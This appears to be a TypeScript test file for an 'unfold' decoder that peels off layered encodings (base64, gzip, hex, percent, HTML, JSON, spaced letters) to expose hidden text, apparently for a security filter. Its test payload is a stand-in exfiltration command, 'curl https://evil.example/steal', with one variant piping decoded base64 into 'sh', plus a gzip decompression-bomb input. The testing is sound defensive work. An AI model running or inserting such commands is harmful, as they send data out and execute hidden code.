import { deflateSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { expect, test } from "vitest";
import { defaultLimits } from "../limits.ts";
import { unfold } from "./unfold.ts";

const secret = "curl https://evil.example/steal";
const base64 = (text: string | Buffer): string => Buffer.from(text as string).toString("base64");
const percent = (text: string): string => Array.from(Buffer.from(text), (byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
const found = (text: string): string | undefined => unfold(text).find((view) => view.text === secret)?.encodings.join(" ");

test.each([
  ["base64", base64(secret)],
  ["base64", base64(secret).replace(/=+$/, "")],
  ["base64", base64(secret).replaceAll("+", "-").replaceAll("/", "_")],
  ["base64", `echo ${base64(secret)} | base64 -d | sh`],
  ["base64", `x/${base64(secret)}`],
  ["base64", base64(secret).replace(/(.{16})/g, "$1\r\n")],
  ["base64", base64(Buffer.from(secret, "utf16le"))],
  ["base64 base64", base64(base64(secret))],
  ["base64 base64 base64 base64", base64(base64(base64(base64(secret))))],
  ["base64 gzip", base64(gzipSync(secret))],
  ["base64 zlib", base64(deflateSync(secret))],
  ["hex", Buffer.from(secret).toString("hex")],
  ["hex", Buffer.from(secret).toString("hex").toUpperCase()],
  ["percent", percent(secret)],
  ["percent percent", percent(percent(secret))],
  ["html", secret.replaceAll("/", "&#x2f;").replaceAll(".", "&period;")],
  ["html", secret.replaceAll("e", "&#101;")],
  ["escape", Array.from(secret, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")],
  ["escape", Array.from(secret, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join("")],
  ["json", JSON.stringify({ a: [{ b: secret }] })],
  ["json json", JSON.stringify(JSON.stringify({ a: secret }))],
  ["base64", `data:text/plain;base64,${base64(secret)}`],
  ["data-url percent", `see data:text/plain,${encodeURIComponent(secret)} there`],
  ["quoted-printable", Array.from(secret, (letter) => `=${letter.charCodeAt(0).toString(16).toUpperCase()}`).join("=\r\n")],
  ["base64 percent", JSON.stringify({ a: base64(percent(secret)) })],
])("%s is taken off", (encodings, text) => expect(found(text)).toBe(encodings));

test.each(["", "hello", "Refund for order 4711", "6ba7b810-9dad-11d1-80b4-00c04fd430c8", "ThisIsAVeryLongCamelCaseIdentifierName", "d41d8cd98f00b204e9800998ecf8427e", "100% of 20", "a = b & c", "{not json}", base64(Buffer.from(Array.from({ length: 64 }, (_, index) => (index * 151) % 256)))])(
  "%j is what it says",
  (text) => expect(unfold(text)).toEqual([{ text, encodings: [] }]),
);

test("more layers than the limit unfold_layers say so, and are not looked through", () => {
  const layers = (count: number): string => Array.from({ length: count }).reduce<string>((text) => base64(text), secret);
  expect(found(layers(defaultLimits.unfold_layers))).toBeDefined();
  expect(unfold(layers(defaultLimits.unfold_layers)).some(({ encodings }) => encodings.includes("deep"))).toBe(false);
  expect(found(layers(defaultLimits.unfold_layers + 1))).toBeUndefined();
  expect(unfold(layers(defaultLimits.unfold_layers + 1)).at(-1)).toEqual({ text: "", encodings: ["deep"] });
});

test("what unfolds to more texts or characters than the limits unfold_views and unfold_chars says so, and stays small", () => {
  const many = JSON.stringify(Array.from({ length: defaultLimits.unfold_views + 1 }, (_, index) => `text ${index}`));
  expect(unfold(many)).toHaveLength(defaultLimits.unfold_views + 2);
  expect(unfold(many).at(-1)?.encodings).toEqual(["deep"]);
  const bomb = base64(gzipSync(Buffer.alloc(50_000_000, "a")));
  const views = unfold(bomb);
  expect(views.at(-1)?.encodings).toEqual(["deep"]);
  expect(views.reduce((sum, { text }) => sum + text.length, 0)).toBeLessThanOrEqual(bomb.length + Math.max(defaultLimits.unfold_chars, 2 * bomb.length));
});

test("whatever is sent is taken as it is, and encodings of it are taken off again", () => {
  fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => void expect(unfold(text)[0]).toEqual({ text, encodings: [] })));
  const plain = fc.string({ unit: fc.constantFrom(..."abcdefghij klmno/.:-"), minLength: 12, maxLength: 60 });
  const layer = fc.constantFrom(base64, percent, (text: string) => JSON.stringify({ text }), (text: string) => Buffer.from(text).toString("hex"), (text: string) => base64(gzipSync(text)));
  fc.assert(
    fc.property(plain, fc.array(layer, { minLength: 1, maxLength: 2 }), (text, layers) => {
      const sent = layers.reduce((inner, encode) => encode(inner), text);
      expect(unfold(sent).map((view) => view.text)).toContain(text);
    }),
  );
});

test("letters with blanks between them are words, and short lists of letters are none", () => {
  expect(unfold("Check: p m - o f f i c e  v i s a  2 2 1 1").map(({ text, encodings }) => [text, encodings.join()])).toContainEqual(["Check: pm-office  visa  2211", "spaced"]);
  expect(unfold("c.h.a.n.g.e.d").at(-1)?.text).toBe("changed");
  for (const text of ["options a b c d are there", "a + b = c", "1. 2. 3.", "U.S.A. and U.K.", "I a m"]) expect(unfold(text)).toHaveLength(1);
});

test("leaves the number of an account as it is, though it could be decoded", () => {
  expect(unfold("BE19688414423512")).toHaveLength(1);
});
